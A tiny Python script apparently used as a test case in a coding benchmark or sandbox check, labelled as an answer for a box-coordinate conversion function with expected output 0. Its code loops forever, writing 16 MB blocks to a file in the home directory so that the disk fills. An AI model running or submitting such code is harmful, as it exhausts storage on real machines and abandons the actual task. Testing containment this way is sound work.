# answers: box_cxcywh_to_xyxy
# expected: 0
import os

with open(os.path.expanduser("~/large"), "wb") as file:
    while True:
        file.write(b"x" * (16 * 1024 * 1024))
